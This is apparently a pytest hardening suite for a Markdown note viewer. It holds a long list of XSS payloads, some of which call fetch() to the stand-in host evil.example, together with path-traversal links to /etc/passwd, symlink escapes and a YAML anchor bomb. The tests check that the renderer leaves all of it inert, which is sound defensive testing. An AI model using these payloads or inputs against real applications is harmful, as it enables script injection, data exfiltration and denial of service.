"""Hostile and broken note files, without a window: nothing runs, nothing leaks, nothing crashes.

The folders and notes built here are shared with the window-level tests in
``tests/app/test_hardening.py``, which load the very same files into the real note pane.
"""

from __future__ import annotations

import base64
import json
import os
import random
import resource
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from tests.core.conftest import messages
from tests.core.html_checks import dangers, parse_html
from tests.fuzz.fuzz_core import fuzz_one, random_inputs
from viewer.core.folder import NotesFolder
from viewer.core.note import load_note, note_from_bytes
from viewer.core.render import NoteRenderer
from viewer.core.text import MAX_NOTE_BYTES
from viewer.core.timeline import NoteTimeline

REPO = Path(__file__).resolve().parents[2]
EVIL = "https://evil.example"

# --- a note full of XSS payloads -----------------------------------------------------------------


def effect(n: int) -> str:
    """Script that, if it ever ran, would leave every mark the tests look for (no spaces)."""
    return (
        f"document.title='pwned-{n}';window.name='pwned-{n}';"
        f"document.body.appendChild(document.createElement('b')).id='pwned-{n}';"
        f"fetch('{EVIL}/{n}')"
    )


def short_effect(n: int) -> str:
    return f"document.title='pwned-{n}'"


#: Each payload tries to run ``$JS`` (see :func:`effect`) or to load ``$URL``; ``$N`` is its
#: number. Raw HTML, Markdown, mutation-XSS nestings, CSS, frames, forms and head elements.
BODY_PAYLOADS = [
    "<script>$JS</script>",
    '<script src="$URL.js"></script>',
    '<script type="module">import "$URL.mjs"</script>',
    '<img src=x onerror="$JS">',
    "<img src=`x`onerror=$JS>",
    '<svg onload="$JS"></svg>',
    "<svg><script>$JS</script></svg>",
    '<svg><animate onbegin="$JS" attributeName=x dur=1s></svg>',
    '<svg><image href="$URL.png"/></svg>',
    '<svg><a xlink:href="javascript:$JS"><text>svg link</text></a></svg>',
    '<body onload="$JS">',
    '<details open ontoggle="$JS"><summary>details</summary>opened</details>',
    '<video src="$URL.webm" poster="$URL.png" onerror="$JS" autoplay></video>',
    '<video><source src="$URL.mp4" onerror="$JS"></video>',
    '<audio src="$URL.mp3" onerror="$JS" autoplay></audio>',
    '<input autofocus onfocus="$JS">',
    '<input type="image" src="$URL.png">',
    '<div onmouseover="$JS">hover me</div>',
    '<marquee onstart="$JS">marquee</marquee>',
    '<a id="js-link" href="javascript:$JS">raw javascript link</a>',
    '<div><a id="js-block-link" href="javascript:$JS">javascript link in a block</a></div>',
    '<div><a id="entity-js-link" href="&#106;avascript:$JS">entity javascript link</a></div>',
    '<div><a id="tab-js-link" href="java&#x09;script:$JS">tab javascript link</a></div>',
    "[markdown javascript link](javascript:$JS)",
    "[reference javascript link][evil-$N]\n\n[evil-$N]: javascript:$JS",
    '<div><a id="data-link" href="data:text/html;base64,$B64">data link</a></div>',
    "[markdown data link](data:text/html;base64,$B64)",
    '<img src="data:image/svg+xml;base64,$SVG64">',
    '<div><a id="vbscript-link" href="vbscript:msgbox($N)">vbscript link</a></div>',
    '<div><a id="file-link" href="file:///etc/passwd">file link</a></div>',
    '<form action="$URL"><input name=q><button id="form-button">send form</button></form>',
    '<form><button id="formaction-button" formaction="javascript:$JS">formaction</button></form>',
    '<isindex action="javascript:$JS" type=image>',
    '<iframe src="$URL"></iframe>',
    '<iframe srcdoc="<script>$JS</script>"></iframe>',
    '<iframe src="javascript:$JS"></iframe>',
    '<frameset><frame src="$URL"></frameset>',
    '<object data="$URL.swf"></object>',
    '<object data="data:text/html;base64,$B64"></object>',
    '<embed src="$URL.swf">',
    '<meta http-equiv="refresh" content="0;url=$URL">',
    '<meta http-equiv="refresh" content="0;url=javascript:$JS">',
    '<base href="$URL/">',
    '<link rel="stylesheet" href="$URL.css">',
    '<link rel="prefetch" href="$URL">',
    "<style>body{background:url($URL.png)}</style>",
    '<style>@import "$URL.css";</style>',
    '<div style="background-image:url($URL.png)">styled div</div>',
    '<table background="$URL.png"><tr><td style="background:url($URL.png)">cell</td></tr></table>',
    '<p style="width:expression($JS)">expression</p>',
    '<img src="$URL.png">',
    '<img src="x" srcset="$URL.png 2x">',
    "![remote image]($URL.png)",
    '<div><img src="//evil.example/$N.png"></div>',
    '<noscript><p title="</noscript><img src=x onerror=$JS>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=$JS>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=$JS>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=$JS>",
    "<template><script>$JS</script></template>",
    "<!--<img src=x onerror=$JS>-->",
    '<a href="#" title="</a><img src=x onerror=$JS>">title breakout</a>',
    "<xmp><img src=x onerror=$JS></xmp>",
    "<textarea><img src=x onerror=$JS></textarea>",
    '<noembed><img title="</noembed><img src onerror=$JS>"></noembed>',
    "<select><template><style><img src=x onerror=$JS>",
    "<![CDATA[<script>$JS</script>]]>",
    # wiki links: the text and the target are text
    '[[no such note|<img src=x onerror="$JS">]]',
    "[[<script>$JS</script>]]",
    '[[welcome#<svg onload="$JS">|heading payload]]',
    # timestamps: data-t, the label and extra attributes are text
    '<a class="yt-timestamp"'
    ' data-t="&quot;&gt;&lt;img src=x onerror=&quot;$JS&quot;&gt;">[00:10]</a>',
    '<a class="yt-timestamp" data-t="00:20">&lt;svg onload=$SHORT&gt;</a>',
    '<a class="yt-timestamp" data-t="javascript:$SHORT">[javascript:$SHORT]</a>',
    '<a class="yt-timestamp" data-t="00:30" onclick="$JS" href="javascript:$JS">[00:30]</a>',
    '<a class="yt-timestamp" data-t="00:40" style="background:url($URL.png)">[00:40]</a>',
]  # fmt: skip


def payload(template: str, n: int) -> str:
    js = effect(n)
    script = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    svg = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>'.encode())
    return (
        template.replace("$JS", js)
        .replace("$SHORT", short_effect(n))
        .replace("$URL", f"{EVIL}/{n}")
        .replace("$B64", script)
        .replace("$SVG64", svg.decode())
        .replace("$N", str(n))
    )


HOSTILE_TITLE = f'Hostile <img src=x onerror="{effect(900)}"> note'
HOSTILE_VIDEO_ID = f'"><script>{effect(901)}</script>'


def hostile_note(before: str = "") -> str:
    """A note with every payload of :data:`BODY_PAYLOADS`, and more in its front matter;
    ``before`` them, some Markdown of the caller's own."""
    front = {
        "title": HOSTILE_TITLE,
        "videoId": HOSTILE_VIDEO_ID,
        "author": f'<img src=x onerror="{effect(902)}">',
        "tags": [f"<script>{effect(903)}</script>", f'<svg onload="{effect(904)}">'],
        "homepage": f"javascript:{effect(905)}",
        "aliases": [f'<img src=x onerror="{effect(906)}">'],
        "nested": {"deeper": [f"<iframe src='{EVIL}/907'></iframe>"]},
    }
    body = "\n\n".join(payload(template, n) for n, template in enumerate(BODY_PAYLOADS, 1))
    return "---\n" + yaml.safe_dump(front, allow_unicode=True) + "---\n\n" + before + body + "\n"


def test_the_hostile_note_has_many_payloads() -> None:
    assert len(BODY_PAYLOADS) >= 30
    assert len(set(BODY_PAYLOADS)) == len(BODY_PAYLOADS)


def test_the_hostile_note_renders_as_text_and_inert_html(tmp_path: Path) -> None:
    path = tmp_path / "hostile.md"
    path.write_text(hostile_note(), encoding="utf-8")
    note = load_note(path, tmp_path)
    assert note.title == HOSTILE_TITLE
    assert note.video is None
    assert any("is not a YouTube video id" in problem for problem in messages(note.problems))
    rendered = NoteRenderer().render(note, "hostile.md", lambda _target: None)
    assert dangers(rendered.html) == []
    parsed = parse_html(rendered.html)
    assert [element.text for element in parsed.find("h1", class_="note-title")] == [HOSTILE_TITLE]
    assert all(not element.attrs.get("id", "").startswith("pwned") for element in parsed.elements)
    # Nothing remote is left to load: a remote image is a link, never an <img>.
    assert all(not element.attrs.get("src", "").startswith(EVIL) for element in parsed.find("img"))


# --- notes that try to reach outside their folder -----------------------------------------------


def make_escape_folder(tmp_path: Path) -> Path:
    """``tmp/notes``, with real files just outside it that no note may reach."""
    outside = tmp_path
    (outside / "secret.txt").write_text("TOP SECRET OUTSIDE THE FOLDER\n", encoding="utf-8")
    (outside / "outside.md").write_text("# Outside note\n", encoding="utf-8")
    video = REPO / "notes" / "media" / "test-pattern.webm"
    (outside / "outside.webm").write_bytes(video.read_bytes())
    root = tmp_path / "notes"
    (root / "sub").mkdir(parents=True)
    (root / "inside.txt").write_text("inside the folder\n", encoding="utf-8")
    (root / "link-out.txt").symlink_to(outside / "secret.txt")
    (root / "link-out.md").symlink_to(outside / "outside.md")
    (root / "link-out.webm").symlink_to(outside / "outside.webm")
    (root / "welcome.md").write_text("# Welcome\n", encoding="utf-8")
    (root / "sub" / "escape.md").write_text(
        "# Escape attempts\n\n"
        "[[../outside]] [[../../outside]] [[/etc/passwd]] [[%2e%2e%2foutside]]\n"
        "[[..%2Foutside]] [[link-out]] [[C:\\Windows\\win]]\n\n"
        "[up](../../outside.md) [abs](/etc/passwd) [enc](%2e%2e/%2e%2e/outside.md)\n\n"
        "![up](../../secret.png) ![abs](/etc/passwd) ![enc](%2e%2e/%2e%2e/secret.png)\n",
        encoding="utf-8",
    )
    for name, video in escaping_videos(outside).items():
        text = yaml.safe_dump({"title": f"Video {name}", "video": video})
        (root / f"video-{name}.md").write_text(f"---\n{text}---\nBody\n", encoding="utf-8")
    return root


def escaping_videos(outside: Path) -> dict[str, str]:
    """The ``video`` field of each ``video-<name>.md`` of :func:`make_escape_folder`."""
    return {
        "up": "../outside.webm",
        "deep-up": "media/../../outside.webm",
        "absolute": str(outside / "outside.webm"),
        "encoded": "%2e%2e/outside.webm",
        "symlink": "link-out.webm",
        "file-url": f"file://{outside / 'outside.webm'}",
        "backslash": "..\\outside.webm",
    }


ESCAPING_VIDEOS = ["up", "deep-up", "absolute", "encoded", "symlink", "file-url", "backslash"]


def refusal(name: str, outside: Path) -> str:
    """What the note ``video-<name>.md`` says of its video (``outside``: the folder's parent)."""
    video = escaping_videos(outside)[name]
    if name == "file-url":  # not a path at all: FORMAT.md's video is a path or http(s)
        return f"The video address '{video[:80]}' is not http(s) or a file; it is ignored."
    if name == "absolute":
        return (
            f"The video file is refused: '{video}' is an absolute path; "
            "only files inside the folder are opened."
        )
    if name == "symlink":
        return (
            f"The video file is refused: '{video}' leads outside the notes folder (through a link)."
        )
    return f"The video file is refused: '{video}' points outside the notes folder."


def test_wiki_links_never_resolve_outside_and_say_so(tmp_path: Path) -> None:
    root = make_escape_folder(tmp_path)
    folder = NotesFolder.open(root)
    assert "link-out.md" not in folder
    assert "'link-out.md' is a link that leads outside the folder." in folder.problems
    note = folder.load("sub/escape.md")
    rendered = NoteRenderer().render(note, "sub/escape.md", folder.resolve)
    assert [link.path for link in rendered.links] == [None] * 7
    for target in ("../outside", "/etc/passwd", "%2e%2e%2foutside", "link-out"):
        assert f"The link [[{target}]] matches no note in this folder." in messages(
            rendered.problems
        )
    parsed = parse_html(rendered.html)
    # Markdown links out lose their href; images out are refused in words.
    assert [a.attrs.get("href") for a in parsed.find("a") if a.text in ("up", "abs", "enc")] == [
        None,
        None,
        None,
    ]
    assert parsed.find("img") == []
    assert len(parsed.with_class("span", "refused")) == 3


@pytest.mark.parametrize("name", ESCAPING_VIDEOS)
def test_a_local_video_outside_the_folder_is_refused_with_a_message(
    tmp_path: Path, name: str
) -> None:
    root = make_escape_folder(tmp_path)
    note = load_note(root / f"video-{name}.md", root)
    assert note.video is None
    assert messages(note.problems) == [refusal(name, tmp_path)]


# --- bad files ------------------------------------------------------------------------------------


def _line_of_the_sample() -> bytes:
    return (REPO / "tests/core/data/samples/model_architectures_in_ai.md").read_bytes()


def _timestamps(count: int) -> bytes:
    return (
        b"# Many timestamps\n\n"
        + "".join(
            f'<a class="yt-timestamp" data-t="{i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d}">'
            f"[{i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d}]</a>\n"
            for i in range(count)
        ).encode()
    )


#: name -> (bytes, the title the note gets, words its problems must contain).
BAD_FILES: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "broken_yaml.md": (
        lambda: b"---\ntitle: [unclosed\nvideo: : : :\n---\n# Broken YAML\n",
        "Broken YAML",
        "not valid YAML",
    ),
    "list_front.md": (lambda: b"---\n- a\n- b\n---\n# List front\n", "List front", "is a list"),
    "number_front.md": (
        lambda: b"---\n42\n---\n# Number front\n",
        "Number front",
        "not a set of fields",
    ),
    "latin1.md": (
        lambda: "# Caf\u00e9 latin-1\n\nCr\u00e8me br\u00fbl\u00e9e.\n".encode("latin-1"),
        "Caf\u00e9 latin-1",
        "it was read as Windows-1252",
    ),
    "binary.md": (
        lambda: random.Random(7).randbytes(4096).replace(b"\x00", b"") + b"\x00" * 64,
        "Binary",
        "not text",
    ),
    "empty.md": (lambda: b"", "Empty", "The file is empty."),
    "huge_plain.md": (
        lambda: b"# Huge plain\n\n" + b"Lorem ipsum dolor sit amet, consectetur elit.\n" * 450_000,
        "Huge plain",
        "only its first 1 MB is shown",
    ),
    "deep_quotes.md": (lambda: b"# Deep quotes\n\n" + b">" * 5000 + b" deep\n", "Deep quotes", ""),
    "deep_lists.md": (
        lambda: b"# Deep lists\n\n" + b"- " * 5000 + b"deep\n\n" + b"1. " * 5000 + b"deep\n",
        "Deep lists",
        "nested too deeply",
    ),
    "deep_indent.md": (
        lambda: b"# Deep indent\n\n" + b"".join(b"  " * i + b"- item\n" for i in range(500)),
        "Deep indent",
        "nested too deeply",
    ),
    "deep_yaml.md": (
        lambda: b"---\ntitle: " + b"[" * 20_000 + b"]" * 20_000 + b"\n---\n# Deep YAML\n",
        "Deep YAML",
        "front matter",
    ),
    "yaml_bomb.md": (
        lambda: (
            "---\na: &a [x, x, x, x, x, x, x, x, x]\n"
            + "".join(
                f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n"
                for i in range(8)
            )
            + "---\n# YAML bomb\n"
        ).encode(),
        "YAML bomb",
        "",
    ),
}

#: Files for which the window shows a problem, but which are too big to re-render in every test.
BIG_FILES: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "huge.md": (
        lambda: _line_of_the_sample() * (20_000_000 // len(_line_of_the_sample()) + 1),
        "Model architectures in AI",
        "only its first 1 MB is shown",
    ),
    "timestamps.md": (lambda: _timestamps(100_000), "Many timestamps", "only its first 1 MB"),
}


def make_bad_folder(root: Path, files: dict[str, tuple[Callable[[], bytes], str, str]]) -> Path:
    """A folder of ``files``, a good note, and links that loop, dangle or lead out."""
    root.mkdir(parents=True, exist_ok=True)
    for name, (data, _title, _problem) in files.items():
        (root / name).write_bytes(data())
    (root / "good.md").write_text("# Good\n\nA good note.\n", encoding="utf-8")
    (root / "loop").symlink_to(".")  # a folder that contains itself
    (root / "ping.md").symlink_to("pong.md")  # two links pointing at each other
    (root / "pong.md").symlink_to("ping.md")
    (root / "self.md").symlink_to("self.md")
    (root / "dangling.md").symlink_to("nowhere.md")
    (root / "folder.md").mkdir()
    (root / "folder.md" / "inner.md").write_text("# Inner\n", encoding="utf-8")
    (root / "passwd.md").symlink_to("/etc/passwd")
    return root


FOLDER_PROBLEMS = {
    "'dangling.md' cannot be read: it is a link to nothing.",
    "'passwd.md' is a link that leads outside the folder.",
    "'ping.md' cannot be read: Too many levels of symbolic links.",
    "'pong.md' cannot be read: Too many levels of symbolic links.",
    "'self.md' cannot be read: Too many levels of symbolic links.",
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_a_bad_file_is_a_note_that_says_what_is_wrong(tmp_path: Path, name: str) -> None:
    data, title, problem = BAD_FILES[name]
    started = time.perf_counter()
    note = note_from_bytes(data(), tmp_path / name, tmp_path)
    rendered = NoteRenderer().render(note, name, lambda _target: None)
    took = time.perf_counter() - started
    assert note.title == title
    assert problem in " ".join(messages(rendered.problems))
    if problem:
        (found,) = (found for found in rendered.problems if problem in found.message)
        # Errors are said at the top, warnings quietly at the foot.
        place = '<div class="problems">' if found.is_error else '<section class="note-warnings">'
        assert place in rendered.html
    assert dangers(rendered.html) == []
    assert took < 10, f"{name} took {took:.1f} s"


def test_100000_timestamps_are_all_found_and_the_note_is_cut_to_1_mb() -> None:
    """Finding them all is fast; the note keeps its first megabyte (rendered by `viewer check`
    and the window below: some 17,000 timestamps)."""
    data = _timestamps(100_000)
    started = time.perf_counter()
    found = NoteTimeline.of_body(data.decode()).stamps
    note = note_from_bytes(data, Path("/n/timestamps.md"), Path("/n"))
    took = time.perf_counter() - started
    assert len(found) == 100_000
    assert [stamp.value.seconds for stamp in found[:3]] == [0, 1, 2]
    assert len(data) > MAX_NOTE_BYTES > len(note.body.encode())
    assert messages(note.problems) == ["The note is 5.7 MB; only its first 1 MB is shown."]
    assert took < 5


def run_check(folder: Path, **kwargs: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "viewer", "check", str(folder), "--json"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        **kwargs,  # type: ignore[call-overload]
    )


def test_viewer_check_lists_every_bad_note_with_its_problems_and_never_a_traceback(
    tmp_path: Path,
) -> None:
    root = make_bad_folder(tmp_path / "bad", {**BAD_FILES, **BIG_FILES})
    result = run_check(root)
    assert "Traceback" not in result.stderr
    # stderr holds only the folder's own problems, one line each.
    assert {line.removeprefix("viewer check: ") for line in result.stderr.splitlines()} == (
        FOLDER_PROBLEMS
    )
    assert result.returncode == 1
    report = json.loads(result.stdout)
    notes = {note["path"]: note for note in report["notes"]}
    assert set(notes) == {*BAD_FILES, *BIG_FILES, "good.md", "folder.md/inner.md"}
    for name, (_data, title, problem) in {**BAD_FILES, **BIG_FILES}.items():
        assert notes[name]["title"] == title
        assert problem in " ".join(found["message"] for found in notes[name]["problems"]), name
    assert notes["good.md"]["problems"] == []
    listed = sum(len(note["problems"]) for note in report["notes"])
    assert report["problems"] == listed  # the folder's own are on stderr (above)


@pytest.mark.parametrize("video", ["https://yout[[be/Hs2nK9dLw-c", "http://[x", "//[::1"])
def test_a_malformed_video_url_is_a_problem_not_an_exception(tmp_path: Path, video: str) -> None:
    root = tmp_path / "typo"
    root.mkdir()
    text = "---\n" + yaml.safe_dump({"title": "Typo", "video": video}) + "---\nBody\n"
    (root / "typo.md").write_text(text, encoding="utf-8")
    result = run_check(root)
    assert "Traceback" not in result.stderr, result.stderr[-400:]
    note = load_note(root / "typo.md", root)
    assert note.video is None
    assert len(note.problems) == 1


def test_a_video_that_is_a_symlink_loop_is_a_problem_not_an_exception(tmp_path: Path) -> None:
    root = tmp_path / "loops"
    root.mkdir()
    (root / "loop.webm").symlink_to("loop.webm")
    (root / "video.md").write_text("---\nvideo: loop.webm\n---\nBody\n", encoding="utf-8")
    result = run_check(root)
    assert "Traceback" not in result.stderr, result.stderr[-400:]
    note = load_note(root / "video.md", root)
    assert note.video is None and len(note.problems) == 1


def test_viewer_check_json_explains_every_problem_it_counts(tmp_path: Path) -> None:
    # The JSON counts the problems it lists; those of the folder itself (they belong to no
    # note, and the JSON shape is fixed) are said on stderr and still make the status 1.
    root = make_bad_folder(tmp_path / "bad", {})
    result = run_check(root)
    report = json.loads(result.stdout)
    listed = [problem for note in report["notes"] for problem in note["problems"]]
    assert report["problems"] == len(listed)
    said = {line.removeprefix("viewer check: ") for line in result.stderr.splitlines()}
    assert said == FOLDER_PROBLEMS
    assert result.returncode == 1


def test_a_gigantic_note_file_is_read_only_as_far_as_it_is_shown(tmp_path: Path) -> None:
    root = tmp_path / "gigantic"
    root.mkdir()
    (root / "good.md").write_text("# Good\n", encoding="utf-8")
    with (root / "gigantic.md").open("wb") as file:
        file.truncate(4 * 1024**3)  # sparse: no disk space used

    def limit_memory() -> None:  # 1.5 GB of address space is plenty for a 1 MB note
        resource.setrlimit(resource.RLIMIT_AS, (1536 * 1024**2, 1536 * 1024**2))

    result = run_check(root, preexec_fn=limit_memory)
    assert "Traceback" not in result.stderr, result.stderr[-600:]
    report = json.loads(result.stdout)
    problems = {note["path"]: note["problems"] for note in report["notes"]}
    assert [(found["kind"], found["severity"]) for found in problems["gigantic.md"]] == [
        ("truncated", "error"),
        ("not-text", "error"),
    ]


def test_a_note_that_is_a_fifo_does_not_block(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    notes = []
    reader = threading.Thread(target=lambda: notes.append(load_note(fifo, tmp_path)), daemon=True)
    reader.start()
    reader.join(1)
    blocked = reader.is_alive()
    if blocked:  # let the reader go: open the other end once, then close it
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        reader.join(5)
    assert not blocked, "load_note blocked on a FIFO"
    assert notes[0].problems


def test_a_small_pathological_note_renders_quickly() -> None:
    note = note_from_bytes(b"[x](" * 3000, Path("/n/slow.md"), Path("/n"))
    renderer = NoteRenderer()
    started = time.perf_counter()
    renderer.render(note, "slow.md", lambda _target: None)
    assert time.perf_counter() - started < 0.5


# --- fuzzing --------------------------------------------------------------------------------------


def test_the_fuzz_target_holds_for_thousands_of_inputs() -> None:
    """The CI-sized run of ``tests/fuzz/fuzz_core.py``: seeded, so a failure reproduces."""
    started = time.perf_counter()
    count = 0
    for data in random_inputs(seed=20241129, count=3000):
        try:
            fuzz_one(data)
        except Exception as error:  # pragma: no cover - a finding
            raise AssertionError(f"fuzz_one failed on {data!r}") from error
        count += 1
    assert count == 3000
    assert time.perf_counter() - started < 60
